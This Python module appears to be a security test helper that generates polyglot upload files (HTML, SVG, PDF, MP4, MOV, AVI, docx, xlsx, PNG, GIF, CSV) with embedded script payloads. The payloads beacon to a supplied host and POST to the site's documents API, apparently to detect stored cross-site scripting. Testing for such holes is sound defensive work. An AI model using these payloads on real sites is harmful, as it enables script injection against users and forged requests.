"""Bytes that would run in a page of the site if anything let them."""

import io
import struct
import zipfile

from odd_files import ROOT, png

# What extensions the types of documents take by default.
EXTENSIONS = {
    ".mp4": "highlight_video", ".mov": "highlight_video", ".avi": "highlight_video", ".pdf": "transcript", ".txt": "transcript",
    ".doc": "resume", ".docx": "resume", ".csv": "stats_sheet", ".xls": "stats_sheet", ".xlsx": "stats_sheet",
}


def script(beacon):
    """It tells of itself in every way that scripts have."""
    return (
        "document.title='ran';try{top.document.title='ran';top.ran=1}catch(e){}document.cookie='ran=1;path=/';"
        f"new Image().src='{beacon}/image';fetch('{beacon}/fetch',{{mode:'no-cors'}});"
        "fetch('/api/v1/documents',{method:'POST'})")


def page(beacon):
    return (
        f"<!doctype html><html><head><title>evil</title><script>{script(beacon)}</script></head><body>"
        f"<img src=x onerror=\"{script(beacon)}\"><svg onload=\"{script(beacon)}\"></svg>"
        f"<img src='{beacon}/plain'><iframe srcdoc=\"<script>{script(beacon)}</script>\"></iframe></body></html>\n").encode()


def picture(beacon):
    return (
        '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" '
        f'onload="{script(beacon)}"><script>{script(beacon).replace("&", "&amp;")}</script><image xlink:href="{beacon}/svg"/>'
        '</svg>\n').encode()


def document(beacon):
    """A PDF that asks its reader to run a script, and is a page of HTML as well."""
    action = f"app.alert(1);this.submitForm('{beacon}/pdf');"
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (" + action.encode().replace(b"(", b"\\(").replace(
            b")", b"\\)") + b") >> >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 300] /Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 300 300] "
        b"/A << /S /URI /URI (javascript:document.title='ran') >> >>] >>",
    ]
    data, places = b"%PDF-1.4\n%" + page(beacon).replace(b"\n", b" ") + b"\n", []
    for number, text in enumerate(objects, 1):
        places.append(len(data))
        data += b"%d 0 obj\n%s\nendobj\n" % (number, text)
    start = len(data)
    rows = b"".join(b"%010d 00000 n \n" % place for place in places)
    return (
        data + b"xref\n0 4\n0000000000 65535 f \n" + rows + b"trailer << /Size 4 /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % start)


def film(beacon, brand=b"isom"):
    """A film that plays, with a page of HTML in a box that players skip."""
    data = (ROOT / "examples/clip.mp4").read_bytes()
    inside = page(beacon)
    if brand == b"qt  ":
        data = data[:8] + brand + data[12:]
    return data + struct.pack(">I", len(inside) + 8) + b"free" + inside


def old_film(beacon):
    """An AVI with a page of HTML in a chunk that players skip."""
    junk = page(beacon)
    junk += b" " * (len(junk) % 2)
    head = b"avih" + struct.pack("<I", 56) + bytes(56)
    body = b"AVI LIST" + struct.pack("<I", len(head) + 4) + b"hdrl" + head + b"JUNK" + struct.pack("<I", len(junk)) + junk
    body += b"LIST" + struct.pack("<I", 4) + b"movi"
    return b"RIFF" + struct.pack("<I", len(body)) + body


def package(kind, beacon):
    """An office document with a page of HTML as a further part, stored plainly, so that it stands in the bytes as it is."""
    main = {"docx": "word/document.xml", "xlsx": "xl/workbook.xml"}[kind]
    family = {"docx": "wordprocessingml.document.main", "xlsx": "spreadsheetml.sheet.main"}[kind]
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w") as parts:
        parts.writestr(
            "[Content_Types].xml", '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override '
            f'PartName="/{main}" ContentType="application/vnd.openxmlformats-officedocument.{family}+xml"/></Types>')
        parts.writestr(
            "_rels/.rels", '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship '
            'Id="r" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
            f'Target="{main}"/></Relationships>')
        parts.writestr(main, "<document/>")
        parts.writestr("page.html", page(beacon))
    return data.getvalue()


def payloads(beacon):
    """By names that say what they are."""
    html = page(beacon)
    return {
        "html": html,
        "html-utf-16": "\ufeff".encode("utf-16-le") + html.decode().encode("utf-16-le"),
        "html-after-text": b"Season notes\n" * 200 + html,
        "csv-with-html": b'Date,Note\n2026-01-01,"' + html.replace(b'"', b"'").replace(b"\n", b"") + b'"\n',
        "svg": picture(beacon),
        "xhtml": b'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script>' + script(beacon).encode().replace(
            b"&", b"&amp;") + b"</script></html>",
        "script": script(beacon).encode(),
        "pdf": document(beacon),
        "png-and-html": png() + html,
        "gif-and-script": b"GIF89a/*" + bytes(8) + b"*/=1;" + script(beacon).encode(),
        "mp4": film(beacon),
        "mov": film(beacon, b"qt  "),
        "avi": old_film(beacon),
        "docx": package("docx", beacon),
        "xlsx": package("xlsx", beacon),
    }
